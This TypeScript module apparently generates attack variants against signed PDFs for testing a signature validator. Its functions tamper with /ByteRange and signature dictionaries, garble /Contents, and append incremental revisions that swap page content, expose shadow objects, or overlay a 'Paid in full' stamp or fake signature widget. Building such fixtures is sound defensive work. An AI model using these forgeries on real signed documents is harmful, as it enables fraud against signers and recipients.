// Attacks on signed PDFs, built from our own sealed files (the attacker's tools: byte edits and core/pdf's
// incremental writer), after the classes in "1 Trillion Dollar Refund" and "Shadow Attacks" (USF, ISA, SWA, shadow).
import { readFileSync, writeFileSync } from 'node:fs';
import {
  IncrementBuilder,
  NewStream,
  PdfDict,
  PdfDocument,
  PdfRef,
  PdfString,
  name,
  pageRef,
  type PdfObject,
} from '../../core/pdf/index.js';

/** Where the last signature dictionary's /ByteRange numbers are: [start of "[", end after "]"]. */
function lastByteRange(pdf: Buffer): { at: number; end: number; values: number[] } {
  const at = pdf.lastIndexOf('/ByteRange [');
  const open = at + '/ByteRange '.length;
  const end = pdf.indexOf(']', open) + 1;
  return {
    at: open,
    end,
    values: pdf
      .subarray(open + 1, end - 1)
      .toString('latin1')
      .trim()
      .split(/\s+/)
      .map(Number),
  };
}

/** Rewrites the last /ByteRange in place (same width, padded), e.g. to overlap or reach past EOF. */
export function editByteRange(file: string, out: string, edit: (v: number[]) => number[]): void {
  const pdf = readFileSync(file);
  const br = lastByteRange(pdf);
  const text = `[${edit(br.values).join(' ')}]`;
  const width = br.end - br.at;
  if (text.length > width) throw new Error('edited /ByteRange does not fit');
  pdf.write(text.slice(0, -1) + ' '.repeat(width - text.length) + ']', br.at, 'latin1');
  writeFileSync(out, pdf);
}

/** Replaces the first occurrence after the last signature dictionary's start (same length). */
export function editSignatureDict(file: string, out: string, from: string, to: string): void {
  if (from.length !== to.length) throw new Error('in-place edits keep the length');
  const pdf = readFileSync(file);
  const start = pdf.lastIndexOf('/Type /Sig') >= 0 ? pdf.lastIndexOf('/Type /Sig') : pdf.lastIndexOf('/ByteRange [');
  const at = pdf.indexOf(from, start - 200);
  if (at < 0) throw new Error(`"${from}" not found`);
  pdf.write(to, at, 'latin1');
  writeFileSync(out, pdf);
}

/** Overwrites the hex digits of the last /Contents (inside the byte-range gap) with other hex of the same length. */
export function garbageContents(file: string, out: string): void {
  const pdf = readFileSync(file);
  const br = lastByteRange(pdf).values;
  const from = br[1]! + 1;
  const to = br[2]! - 1;
  for (let i = from; i < to; i++) pdf[i] = '0123456789abcdef'.charCodeAt((i * 7) % 16);
  writeFileSync(out, pdf);
}

/** Appends one revision made with core/pdf's writer (what an attacker with any PDF library can do). */
export function appendRevision(
  file: string,
  out: string,
  change: (doc: PdfDocument, b: IncrementBuilder) => void,
): void {
  const doc = PdfDocument.openFile(file);
  try {
    const b = new IncrementBuilder(doc);
    change(doc, b);
    const bytes = readFileSync(file);
    writeFileSync(out, Buffer.concat([bytes, b.build(bytes.length, bytes[bytes.length - 1] === 10).bytes]));
  } finally {
    doc.close();
  }
}

const content = (text: string) =>
  new NewStream(new PdfDict(), Buffer.from(`BT /F1 18 Tf 72 760 Td (${text}) Tj ET`, 'latin1'));

/** ISA with xref and trailer: page 1's content replaced in a new revision. */
export function replacePageContent(file: string, out: string, text: string): void {
  appendRevision(file, out, (doc, b) => {
    const page = pageRef(doc, 0);
    b.set(page, doc.dict(page)!.with({ Contents: b.add(content(text)) }));
  });
}

/** Shadow hide-and-replace: page 1 now shows an object that was already in the file but unreachable when signed. */
export function pointPageAt(file: string, out: string, num: number): void {
  appendRevision(file, out, (doc, b) => {
    const page = pageRef(doc, 0);
    b.set(page, doc.dict(page)!.with({ Contents: new PdfRef(num, 0) }));
  });
}

/** Adds an annotation (or a signature widget) with a visible appearance over `rect` on page 1. */
export function addOverlay(
  file: string,
  out: string,
  kind: 'freetext' | 'signature-widget',
  rect: [number, number, number, number],
): void {
  appendRevision(file, out, (doc, b) => {
    const page = pageRef(doc, 0);
    const [x0, y0, x1, y1] = rect;
    const ap = new NewStream(
      PdfDict.of({ Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, x1 - x0, y1 - y0] }),
      Buffer.from(`1 1 1 rg 0 0 ${x1 - x0} ${y1 - y0} re f 0 g BT /Helv 12 Tf 2 4 Td (Paid in full) Tj ET`, 'latin1'),
    );
    const fields: Record<string, PdfObject> =
      kind === 'signature-widget'
        ? {
            Type: name('Annot'),
            Subtype: name('Widget'),
            FT: name('Sig'),
            T: PdfString.text('Sneaky'),
            F: 4,
            P: page,
            Rect: rect,
            AP: PdfDict.of({ N: b.add(ap) }),
          }
        : {
            Type: name('Annot'),
            Subtype: name('FreeText'),
            F: 4,
            P: page,
            Rect: rect,
            Contents: PdfString.text('Paid in full'),
            DA: PdfString.text('/Helv 12 Tf 0 g'),
            AP: PdfDict.of({ N: b.add(ap) }),
          };
    const annot = b.add(PdfDict.of(fields));
    const pd = doc.dict(page)!;
    const annots = doc.resolve(pd.get('Annots'));
    b.set(page, pd.with({ Annots: [...(Array.isArray(annots) ? annots : []), annot] }));
  });
}
